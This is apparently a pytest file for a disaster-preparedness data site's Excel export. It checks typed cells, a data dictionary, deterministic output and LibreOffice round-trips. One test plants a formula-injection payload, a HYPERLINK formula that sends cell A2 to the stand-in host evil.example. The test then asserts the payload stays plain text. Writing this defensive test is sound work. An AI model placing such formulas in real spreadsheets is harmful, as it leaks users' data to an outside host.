"""``data/ksb.xlsx`` as a partner's spreadsheet program reads it: one sheet per table with the CSV's rows and columns,
typed (numbers, dates, text codes and phone numbers), a frozen header, the data dictionary, no formula from content,
and the same bytes from the same content."""

from __future__ import annotations

import datetime as dt
import io

from openpyxl import load_workbook

from siaga.published.catalogue import COLUMNS, NEED_COLUMNS, REPORT_COLUMNS


def test_the_workbook_holds_every_table_typed(bundled_site):
    project, content = bundled_site
    book = load_workbook(project.site / "data" / "ksb.xlsx")
    assert book.sheetnames == ["KSB", "Laporan", "Kebutuhan", "Kamus data"]
    sheet = book["KSB"]
    assert [cell.value for cell in sheet[1]] == [column.name for column in COLUMNS]
    assert sheet.freeze_panes == "A2"
    rows = [dict(zip([column.name for column in COLUMNS], row, strict=True)) for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert len(rows) == len(content.ksb)
    for row, entry in zip(rows, content.ksb, strict=True):
        assert row["id"] == f"{entry.wilayah.slug}/{entry.slug}"
        assert isinstance(row["wilayah_kode"], str) and row["wilayah_kode"].startswith("36.")
        assert row["lat"] is None or (isinstance(row["lat"], float) and -9 < row["lat"] < -5), "a latitude, not thousands"
        assert row["relawan"] is None or isinstance(row["relawan"], int)
        assert row["posko_telepon"] is None or (isinstance(row["posko_telepon"], str) and row["posko_telepon"].startswith("+62"))
        assert row["diperbarui"] is None or isinstance(row["diperbarui"], dt.datetime), "a date Excel can sort"
    reports = list(book["Laporan"].iter_rows(min_row=2, values_only=True))
    assert len(reports) == len(content.laporan)
    received = [column.name for column in REPORT_COLUMNS].index("waktu_laporan")
    assert all(isinstance(report[received], dt.datetime) for report in reports)
    assert len(list(book["Kebutuhan"].iter_rows(min_row=2))) == sum(len(e.record.kebutuhan) for e in content.ksb) > 0
    dictionary = list(book["Kamus data"].iter_rows(min_row=2, values_only=True))
    assert len(dictionary) == len(COLUMNS) + len(REPORT_COLUMNS) + len(NEED_COLUMNS)
    assert all(description for _, _, _, description, _ in dictionary[: len(COLUMNS)])


def test_a_formula_typed_into_content_stays_text(tmp_path):
    from conftest import GOLDEN_CONTENT, KSB_SOURCE, TODAY, make_project, write
    from siaga.build import build

    project = make_project(tmp_path / "proyek", GOLDEN_CONTENT)
    formula = '=HYPERLINK("https://evil.example/?d="&A2,"Klik")'
    write(project, "ksb/kab-lebak/rumus.yml", f"nama: '{formula}'\nkecamatan: Bayah\n{KSB_SOURCE}\n")
    build(project, strict=True, today=TODAY)
    sheet = load_workbook(project.site / "data" / "ksb.xlsx")["KSB"]
    names = [row[1] for row in sheet.iter_rows(min_row=2)]
    cell = next(cell for cell in names if cell.value == formula)
    assert cell.data_type == "s", "a string cell, never a formula"


def test_the_same_content_gives_the_same_workbook(golden_site):
    from siaga.exports.files import export_files
    from siaga.published.urls import SiteUrls

    project, content = golden_site
    urls = SiteUrls.from_config(project.config)
    first = export_files(content, urls).files["data/ksb.xlsx"]
    again = export_files(content, urls).files["data/ksb.xlsx"]
    assert first == again
    assert load_workbook(io.BytesIO(first)).sheetnames[0] == "KSB"


def test_the_data_package_describes_every_data_file_and_validates(bundled_site):
    import json

    from frictionless import validate

    project, _ = bundled_site
    package = project.site / "data" / "datapackage.json"
    report = validate(package)
    assert report.valid, report.flatten(["type", "note"])
    descriptor = json.loads(package.read_text(encoding="utf-8"))
    described = {resource["path"] for resource in descriptor["resources"]}
    files = {path.name for path in (project.site / "data").iterdir()
             if path.suffix != ".html" and "-hxl" not in path.name and path.name != "datapackage.json"}
    assert described == files
    ksb = next(resource for resource in descriptor["resources"] if resource["path"] == "ksb.csv")
    assert [field["name"] for field in ksb["schema"]["fields"]] == [column.name for column in COLUMNS]
    assert all(field["description"] for field in ksb["schema"]["fields"])
    assert {field["name"]: field["type"] for field in ksb["schema"]["fields"]}["lat"] == "number"


def test_libreoffice_reads_the_workbook_with_its_types(golden_site, tmp_path):
    """LibreOffice, as a partner's spreadsheet program, converts the KSB sheet to the same rows: a phone number stays
    +62..., never 6.28E+12; a latitude stays a decimal; a date stays a date. CI installs it (SIAGA_REQUIRE_LIBREOFFICE)."""
    import csv
    import os
    import shutil
    import subprocess

    import pytest

    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        if os.environ.get("SIAGA_REQUIRE_LIBREOFFICE"):
            raise AssertionError("LibreOffice (soffice) is required here: apt-get install libreoffice-calc-nogui")
        pytest.skip("LibreOffice is not installed")
    project, content = golden_site  # it has posko numbers, where the bundled content has none yet
    subprocess.run([soffice, f"-env:UserInstallation=file://{tmp_path / 'profil'}", "--headless", "--convert-to", "csv",
                    "--outdir", str(tmp_path), str(project.site / "data" / "ksb.xlsx")], check=True, capture_output=True, timeout=300)
    rows = list(csv.DictReader((tmp_path / "ksb.csv").read_text(encoding="utf-8", errors="replace").splitlines()))
    assert [name for name in rows[0]] == [column.name for column in COLUMNS]
    assert len(rows) == len(content.ksb)
    phones = [row["posko_telepon"] for row in rows if row["posko_telepon"]]
    assert phones and all(phone.startswith("+62") and "E+" not in phone for phone in phones)
    latitudes = [row["lat"] for row in rows if row["lat"]]
    assert latitudes and all(-9 < float(value) < -5 for value in latitudes), "a latitude, not thousands"
    assert all(row["wilayah_kode"].startswith("36.") for row in rows), "a region code stays text"
    assert all(dt.date.fromisoformat(row["diperbarui"][:10]) for row in rows if row["diperbarui"])
